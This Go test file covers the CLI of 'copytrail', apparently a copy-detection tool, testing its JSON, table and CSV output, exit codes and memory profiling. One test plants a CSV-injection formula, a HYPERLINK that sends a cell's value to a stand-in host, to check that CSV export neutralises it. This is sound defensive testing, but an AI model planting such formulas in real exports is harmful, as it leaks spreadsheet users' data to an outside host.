package cli

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// genCollection writes a small generated collection with `copytrail gen`.
func genCollection(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	var out, errb bytes.Buffer
	if code := Main([]string{"gen", "-out", dir, "-cases", "1", "-seed", "3"}, &out, &errb); code != 0 {
		t.Fatalf("gen exit %d: %s", code, errb.String())
	}
	if _, err := os.Stat(filepath.Join(dir, "truth.json")); err != nil {
		t.Fatal(err)
	}
	os.Remove(filepath.Join(dir, "truth.json"))
	return dir
}

func TestScanJSONContract(t *testing.T) {
	dir := genCollection(t)
	missing := filepath.Join(dir, "missing.txt")
	var out, errb bytes.Buffer
	code := Main([]string{"scan", "--json", "--with-text", "--preset", "strict", "--max-gap", "4", dir, missing}, &out, &errb)
	if code != ExitFailed { // one input could not be read; the rest was scanned
		t.Fatalf("scan exit %d, want %d: %s", code, ExitFailed, errb.String())
	}
	var got struct {
		Version  int `json:"version"`
		Settings struct {
			Preset string `json:"preset"`
			MaxGap int    `json:"max_gap"`
			NGram  int    `json:"ngram"`
		} `json:"settings"`
		Documents []struct {
			ID   string  `json:"id"`
			Text *string `json:"text"`
		} `json:"documents"`
		Passages []map[string]any `json:"passages"`
		Pairs    []map[string]any `json:"pairs"`
		Errors   []struct{ Path, Reason string }
	}
	if err := json.Unmarshal(out.Bytes(), &got); err != nil {
		t.Fatalf("not JSON: %v\n%s", err, out.String())
	}
	if got.Version != 1 || got.Settings.Preset != "custom" || got.Settings.MaxGap != 4 || got.Settings.NGram != 6 {
		t.Fatalf("settings not repeated: %+v", got.Settings)
	}
	if len(got.Documents) < 10 || got.Documents[0].Text == nil || len(got.Passages) == 0 || len(got.Pairs) == 0 {
		t.Fatalf("%d documents, %d passages, %d pairs", len(got.Documents), len(got.Passages), len(got.Pairs))
	}
	for _, k := range []string{"a", "b", "a_start", "a_end", "b_start", "b_end", "words", "similarity", "incidental", "diff"} {
		if _, ok := got.Passages[0][k]; !ok {
			t.Fatalf("passage lacks %q", k)
		}
	}
	if len(got.Errors) != 1 || !strings.Contains(errb.String(), "missing.txt") {
		t.Fatalf("missing file: errors %+v, stderr %q", got.Errors, errb.String())
	}
}

func TestScanTableAndCSV(t *testing.T) {
	dir := genCollection(t)
	var out, errb bytes.Buffer
	if code := Main([]string{"scan", dir}, &out, &errb); code != 0 || !strings.Contains(out.String(), "A COVERAGE") {
		t.Fatalf("table exit %d: %s %s", code, out.String(), errb.String())
	}
	out.Reset()
	if code := Main([]string{"scan", "--csv", dir}, &out, &errb); code != 0 || !strings.HasPrefix(out.String(), "a,b,a_label") {
		t.Fatalf("csv exit %d: %q", code, out.String())
	}
	if code := Main([]string{"scan", "--preset", "wild", dir}, &out, &errb); code != 2 {
		t.Fatalf("unknown preset: exit %d, want 2", code)
	}
	if code := Main([]string{"scan"}, &out, &errb); code != 2 {
		t.Fatalf("no paths: exit %d, want 2", code)
	}
}

func TestScanCSVNeutralisesFormulas(t *testing.T) {
	demo := demoDir(t)
	name := filepath.Join(demo, "01-release.txt")
	b, err := os.ReadFile(name)
	if err != nil {
		t.Fatal(err)
	}
	hostile := `=HYPERLINK("http://example.invalid/?x="&A1,"source")`
	text := strings.Replace(string(b), "title: Lake Ombra water unsafe for 4,200 households, Ombra Watch tests show", "title: "+hostile, 1)
	if text == string(b) {
		t.Fatal("the demo release's title changed: update this test")
	}
	os.WriteFile(name, []byte(text), 0o644)
	code, stdout, stderr := run("scan", "--csv", demo)
	if code != ExitOK {
		t.Fatalf("exit %d: %s", code, stderr)
	}
	recs, err := csv.NewReader(strings.NewReader(stdout)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range recs {
		for _, cell := range rec {
			if strings.HasPrefix(cell, "=") {
				t.Errorf("a spreadsheet would run %q", cell)
			}
			found = found || strings.HasPrefix(cell, "'=HYPERLINK(")
		}
	}
	if !found {
		t.Errorf("the hostile title is not in the CSV:\n%s", stdout)
	}
}

// TestScanMemProfile checks that --memprofile writes a heap profile (a
// gzipped protocol buffer) with the table, the JSON lines, and that the
// output is the one without it; a file that cannot be created fails the
// scan before it starts, as --cpuprofile's does.
func TestScanMemProfile(t *testing.T) {
	dir := genCollection(t)
	for _, format := range []string{"--jsonl", "--csv"} {
		prof := filepath.Join(t.TempDir(), "heap.prof")
		var with, without, errb bytes.Buffer
		if code := Main([]string{"scan", format, "--memprofile", prof, dir}, &with, &errb); code != 0 {
			t.Fatalf("%s: scan exit %d: %s", format, code, errb.String())
		}
		b, err := os.ReadFile(prof)
		if err != nil {
			t.Fatalf("%s: %v", format, err)
		}
		if len(b) < 2 || b[0] != 0x1f || b[1] != 0x8b {
			t.Fatalf("%s: the heap profile is not gzipped (%d bytes)", format, len(b))
		}
		if code := Main([]string{"scan", format, dir}, &without, &errb); code != 0 {
			t.Fatalf("%s: scan exit %d: %s", format, code, errb.String())
		}
		strip := func(s string) string { // the JSON lines' stage times differ between runs
			if i := strings.Index(s, `,"stage_seconds"`); i >= 0 {
				return s[:i]
			}
			return s
		}
		if strip(with.String()) != strip(without.String()) {
			t.Fatalf("%s: the output with --memprofile differs from the one without", format)
		}
	}
	var out, errb bytes.Buffer
	code := Main([]string{"scan", "--csv", "--memprofile", filepath.Join(t.TempDir(), "no", "such", "heap.prof"), dir}, &out, &errb)
	if code != ExitFailed || !strings.Contains(errb.String(), "heap profile") {
		t.Fatalf("an uncreatable profile file: exit %d, stderr %q; want %d and the file named", code, errb.String(), ExitFailed)
	}
}
